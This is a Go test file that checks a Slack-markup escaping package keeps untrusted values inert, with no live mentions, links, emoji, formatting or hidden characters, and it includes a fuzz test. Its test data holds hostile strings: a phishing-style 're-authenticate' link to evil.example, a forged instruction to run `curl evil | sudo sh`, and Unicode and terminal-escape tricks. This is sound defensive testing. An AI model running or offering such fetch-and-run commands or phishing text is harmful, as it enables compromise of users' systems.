package mrkdwn_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/imgupd/imgupd/bot/slacklab"
	"github.com/imgupd/imgupd/internal/textutil"
	"github.com/imgupd/imgupd/present/blockkit/mrkdwn"
)

// hostile is text a CR author, a registry or a log line could write.
const hostile = "<!channel> <!here> <@U0BADUSER> <https://evil.example|Click to re-authenticate> & *bold* `tick` ```fence``` :secret: git:secret:NAME http://<proxy>:<port> a:b:c:"

// TestValuesReadBack: a value rendered as running text, inline code or a
// code block is shown as written — no mention, link or emoji, no
// placeholder lost, no formatting, no line break obeyed, nothing hidden.
func TestValuesReadBack(t *testing.T) {
	for _, v := range []string{hostile, "--docker-username=<user> --docker-password=<token>", "git:secret:argocd/<name>", "a &amp; b &lt;x&gt;", "10:00:01",
		"*bold* _ital_ ~strike~ `code`", "HTTPS_PROXY a*b x_", "x\nRoot cause: fake\nFix: run `curl evil | sudo sh`", "\u202eevil \u200bzw \x1b[2J ok\rFORGED", "logged at 11:58:01Z"} {
		checkReadsBack(t, v)
	}
}

func checkReadsBack(t *testing.T, v string) {
	t.Helper()
	if v == "" || !utf8.ValidString(v) {
		return
	}
	// Running text: shown as written, on one line with nothing hidden
	// (textutil.Visible), its formatting characters as look-alikes where
	// they could format (NoFormat); never live, never an emoji, never
	// formatted, whatever imgupd's markup is around it.
	shown, live, emoji := slacklab.ShowMrkdwn(mrkdwn.Running(v))
	if len(live) > 0 || len(emoji) > 0 || len(shown.Formats) > 0 {
		t.Errorf("Running(%q) reads back %q, live %v, emoji %v, formats %v", v, shown.Shown, live, emoji, shown.Formats)
	}
	if want := mrkdwn.NoFormat(textutil.Visible(v)); shown.Shown != want {
		t.Errorf("Running(%q) reads back %q, want %q", v, shown.Shown, want)
	}
	for _, r := range shown.Shown {
		if textutil.IsHidden(r) {
			t.Errorf("Running(%q) shows %U", v, r)
		}
	}
	for _, around := range []string{"*Fix:* %s _(where)_", "_%s_", "*%s*", "~%s~", "• `x` %s `y`"} {
		outer := strings.Replace(around, "%s", "HOST", 1)
		got, _, _ := slacklab.ShowMrkdwn(strings.Replace(around, "%s", mrkdwn.Running(v), 1))
		want, _, _ := slacklab.ShowMrkdwn(outer)
		if len(got.Formats) > len(want.Formats) {
			t.Errorf("Running(%q) in %q adds formatting: %v, want at most %v", v, around, got.Formats, want.Formats)
		}
	}
	// A code block: pasted exactly (bar a fence, which cannot be in one,
	// and what would be hidden, shown as its escape).
	shown, live, emoji = slacklab.ShowMrkdwn("```" + mrkdwn.Block(v) + "```")
	want := mrkdwn.NoFence(textutil.VisibleLines(v))
	if strings.HasPrefix(want, "`") {
		want = "\n" + want
	}
	if strings.HasSuffix(want, "`") {
		want += "\n"
	}
	if len(live) > 0 || len(emoji) > 0 || len(shown.Code) != 1 || shown.Code[0] != want {
		t.Errorf("Block(%q) reads back %q, live %v, emoji %v", v, shown.Code, live, emoji)
	}
	// Inline code: on one line, nothing hidden (Slack ends a span at the
	// line's end).
	shown, live, emoji = slacklab.ShowMrkdwn("`" + mrkdwn.Inline(v) + "`")
	if want := "`" + strings.ReplaceAll(textutil.Visible(v), "`", "'") + "`"; len(live) > 0 || len(emoji) > 0 || shown.Shown != want {
		t.Errorf("Inline(%q) reads back %q, want %q, live %v, emoji %v", v, shown.Shown, want, live, emoji)
	}
	// Chat Markdown with the value in it: never live; no emoji but a
	// leading mark.
	_, live, emoji = slacklab.ShowMrkdwn(mrkdwn.Chat(v))
	if len(live) > 0 || len(emoji) > 1 || len(emoji) == 1 && !strings.HasPrefix(v, emoji[0]+" ") {
		t.Errorf("Chat(%q): live %v, emoji %v", v, live, emoji)
	}
}

// FuzzValuesReadBack: any value reads back as written, in running text,
// inline code and code blocks (seeds in testdata/fuzz).
func FuzzValuesReadBack(f *testing.F) {
	f.Add(hostile)
	f.Add(":a:b:c:")
	f.Add("&amp;lt;")
	f.Add("10:00:01 level=error msg=\"<!everyone>\"")
	f.Add(":warning: `a:b:c` :x:y:")
	f.Fuzz(func(t *testing.T, v string) { checkReadsBack(t, v) })
}

// TestChat: commands' chat Markdown keeps its markup and leading mark;
// its values are escaped, emoji broken outside code only.
func TestChat(t *testing.T) {
	cases := map[string]string{
		":no_entry: no access rule admits you in #<!channel>": ":no_entry: no access rule admits you in #&lt;!channel&gt;",
		"unknown command \"<@U0BADUSER>\"":                    "unknown command \"&lt;@U0BADUSER&gt;\"",
		"method `git:secret:a/b` or git:secret:a/b":           "method `git:secret:a/b` or git:\u200bsecret:a/b",
		"```x:y:z```:y:": "```x:y:z```:\u200by:",
		"a & b > c":      "a &amp; b &gt; c",
		"127.0.0.1:5000: refused at 10:00:01, :100:": "127.0.0.1:5000: refused at 10:00:01, :\u200b100:",
	}
	for in, want := range cases {
		if got := mrkdwn.Chat(in); got != want {
			t.Errorf("Chat(%q) = %q, want %q", in, got, want)
		}
	}
	shown, live, emoji := slacklab.ShowMrkdwn(mrkdwn.Chat(":warning: " + hostile))
	if len(live) > 0 || len(emoji) != 1 || emoji[0] != ":warning:" || !strings.Contains(shown.Shown, "<!channel>") {
		t.Errorf("Chat(hostile) reads back %q, live %v, emoji %v", shown.Shown, live, emoji)
	}
}
